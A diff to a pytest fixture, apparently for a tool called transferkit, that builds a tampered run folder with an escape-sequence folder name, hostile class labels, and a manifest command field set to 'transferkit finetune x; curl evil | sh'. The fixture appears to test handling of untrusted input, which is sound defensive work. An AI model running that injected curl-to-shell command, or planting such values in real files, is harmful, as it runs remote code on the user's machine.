@@ -15,6 +15,7 @@ from typing import Any
 import pytest
 
 from tests.data.pictures import photo
+from tests.records import facts_of
 from tests.runs.sealing import reseal
 from transferkit.cli import _common
 from transferkit.files import csv_line, write_json
@@ -96,8 +97,8 @@ def run(digits_run: Any, tmp_path_factory: pytest.TempPathFactory) -> Path:
     layout = Layout(Path(shutil.copytree(digits_run.folder, tmp_path_factory.mktemp("foreign") / "r\x1b[4mun")))
     facts = model_file.facts(layout.model)
     old, new = facts["classes"], list(HOSTILE[:10])
-    model_file.save(model_file.load(layout.model), facts | {"classes": new}, layout.model)
-    metrics = json.dumps(layout.read_metrics())
+    model_file.save(model_file.load(layout.model), facts_of({**facts.as_json(), "classes": new}), layout.model)
+    metrics = json.dumps(layout.read_metrics().as_json())
     for one, other in zip(old, new, strict=True):
         metrics = metrics.replace(f'"{one}"', json.dumps(other))
     content = json.loads(metrics)
@@ -110,7 +111,7 @@ def run(digits_run: Any, tmp_path_factory: pytest.TempPathFactory) -> Path:
     cells = [line.split(",") for line in lines]
     rows = [csv_line([path, new[int(label)], new[int(said)], *rest]) for path, label, said, *rest in cells]
     layout.predictions.write_bytes("\n".join([header, *rows, ""]).encode("utf-8", "surrogateescape"))
-    manifest = layout.read_manifest()
+    manifest = layout.read_manifest().as_json()
     manifest["command"] = "transferkit finetune x; curl evil | sh"
     manifest["warnings"] = list(HOSTILE)
     manifest["notes"] = list(HOSTILE)
